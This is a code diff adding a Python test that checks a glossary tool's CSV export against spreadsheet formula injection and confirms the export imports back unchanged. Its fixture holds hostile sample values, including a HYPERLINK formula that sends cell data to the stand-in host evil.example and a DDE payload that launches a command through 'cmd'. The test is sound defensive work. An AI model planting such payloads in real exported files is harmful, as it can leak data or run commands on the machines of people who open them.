@@ -118,3 +118,29 @@ def test_markdown_and_json_exports_carry_the_content(db, glossary):
     assert data["format"] == "samenspraak-glossary" and data["framework"] == "pcm"
     assert [e["term"] for e in data["entries"]] == ["kwaliteit", "regie", "Één loket"]
     assert exports.export(db, glossary.partnership_id, "csv").filename == "woordenlijst-regio-oost.csv"
+
+
+FORMULAS = [
+    {"term": "=HYPERLINK(\"http://evil.example/?\"&A1,\"klik\")", "definition": "=1+1", "scope": "+31 20 123 4567",
+     "examples": ["@SUM(A1:A9)", "- een opsomming"], "notes": "-2+3"},
+    {"term": "gewoon", "definition": "Tekst met = en + in het midden.", "synonyms": ["=cmd|' /C calc'!A0"]},
+]
+
+
+def test_the_csv_export_never_starts_a_cell_with_a_formula_and_imports_back_unchanged(db, world):
+    import csv
+    import io
+
+    for data in FORMULAS:
+        entries.create_entry(db, world.facilitator_id, world.partnership_id, data)
+    exported = exports.export(db, world.partnership_id, "csv").content
+
+    cells = [cell for row in csv.reader(io.StringIO(exported)) for cell in row]
+    assert "'=1+1" in cells and "'@SUM(A1:A9)\n- een opsomming" in cells and "'+31 20 123 4567" in cells
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@")]
+    assert "Tekst met = en + in het midden." in cells  # only the start of a cell matters
+
+    other = partnerships.create_partnership(db, world.facilitator_id, "Regio West", ["A"])
+    exports.apply_import(db, world.facilitator_id, other.id, exported, "csv")
+    assert records(db, other.id) == records(db, world.partnership_id)
+    assert entries.find_entry(db, other.id, "=HYPERLINK(\"http://evil.example/?\"&A1,\"klik\")") is not None
